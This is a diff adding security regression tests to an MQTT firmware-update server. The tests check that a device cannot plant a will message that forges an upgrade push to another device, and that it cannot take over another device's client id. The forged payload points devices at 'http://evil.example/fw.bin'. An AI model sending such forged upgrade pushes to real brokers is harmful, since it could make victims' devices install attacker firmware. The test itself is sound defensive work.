@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 import hashlib
 import hmac
 import struct
@@ -157,3 +158,26 @@ async def test_retained_messages_do_not_leak_to_other_devices_on_connect(server:
         async with Device(server, "ret-x", client_id="ret-x-late") as late:
             await late.subscribe("/a1Test/ret-x/#")
             assert await late.receive("/state") == b"secret-state"  # its own filter: still delivered
+
+
+async def test_will_outside_the_device_namespace_is_refused(server: OtaServer) -> None:
+    # amqtt publishes wills without the PUBLISH ACL: this would be a forged push to victim-1.
+    forged = json.dumps({"code": "1000", "id": 1, "data": {"url": "http://evil.example/fw.bin"}})
+    will = aiomqtt.Will(topic="/ota/device/upgrade/a1Test/victim-1", payload=forged, qos=1, retain=True)
+    with pytest.raises(aiomqtt.MqttError):
+        async with aiomqtt.Client("127.0.0.1", server.mqtt_port, identifier="attacker-1",
+                                  username="attacker-1&a1Test", password=device_secret("attacker-1"), will=will):
+            pass
+    own = aiomqtt.Will(topic="/a1Test/attacker-1/status", payload=b"offline")
+    async with aiomqtt.Client("127.0.0.1", server.mqtt_port, identifier="attacker-1",
+                              username="attacker-1&a1Test", password=device_secret("attacker-1"), will=own):
+        pass
+
+
+async def test_another_device_cannot_take_over_a_client_id(server: OtaServer) -> None:
+    async with Device(server, "cam-a", client_id="a1Test&cam-a") as victim:
+        with pytest.raises(aiomqtt.MqttError):
+            async with Device(server, "cam-b", client_id="a1Test&cam-a"):
+                pass
+        await victim.inform("1.0.0")
+        assert (await victim.next_push())["data"]["version"] == "1.1.0" and not victim.disconnected
